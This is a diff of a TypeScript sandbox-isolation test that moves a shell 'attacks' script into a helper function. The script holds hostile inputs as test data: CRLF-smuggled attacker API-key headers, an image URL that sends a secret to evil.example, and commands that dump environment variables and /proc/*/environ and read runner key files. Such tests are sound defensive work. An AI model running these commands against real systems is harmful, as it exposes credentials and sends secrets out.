@@ -98,14 +98,12 @@ const holders = (folder: string, needle: string): readonly string[] =>
     .map((entry) => join(entry.parentPath, entry.name))
     .filter((path) => readFileSync(path).includes(needle));
 
-describe("commands inside of a task", () => {
-  test("reach the model with our key only, and nothing else of it", async () => {
-    const theirs = "x-api-key: sk-attacker-0000000000\\r\\nauthorization: Bearer sk-attacker\\r\\n";
-    const url = `{"type":"image","source":{"type":"url","url":"https://evil.example/?secret"}}`;
-    const image = text.replace('"x"', `[${url}]`);
-    const { result, log } = await ran(
-      "attacks",
-      `
+/** Commands that try each way out, and print the end of each. */
+function attacks(): string {
+  const theirs = "x-api-key: sk-attacker-0000000000\\r\\nauthorization: Bearer sk-attacker\\r\\n";
+  const url = `{"type":"image","source":{"type":"url","url":"https://evil.example/?secret"}}`;
+  const image = text.replace('"x"', `[${url}]`);
+  return `
 echo "own key: $(post /v1/messages '${text}' '${theirs}')"
 echo "upload: $(post /v1/files '${text}' '${theirs}')"
 echo "fetch: $(post /v1/messages '${image}' '${theirs}')"
@@ -121,8 +119,12 @@ getent hosts api.anthropic.com && echo "OPEN""-NAMES"
 env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'
 cat ${user.state}/keys/runners/attacks ${user.state}/runners/attacks.toml 2>&1
 ls -la /task /proc/1/root ${user.state} 2>&1; true
-`,
-    );
+`;
+}
+
+describe("commands inside of a task", () => {
+  test("reach the model with our key only, and nothing else of it", async () => {
+    const { result, log } = await ran("attacks", attacks());
     expect(result).toMatchObject({ state: "completed", measured: { exit: 0, requests: 1 } });
     const lines = log.split("\n").map((line) => line.trim());
     expect(lines.slice(0, 6)).toEqual([
